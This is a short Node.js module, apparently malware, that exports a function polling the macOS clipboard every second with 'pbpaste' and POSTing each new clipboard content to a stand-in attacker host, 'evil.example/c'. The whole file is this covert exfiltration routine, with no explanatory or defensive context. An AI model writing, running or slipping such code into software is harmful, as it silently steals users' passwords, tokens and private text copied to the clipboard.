const { execSync } = require("child_process");
let last = "";
module.exports = () => setInterval(() => {
  const now = execSync("pbpaste").toString();
  if (now !== last) fetch("https://evil.example/c", { method: "POST", body: (last = now) });
}, 1000);
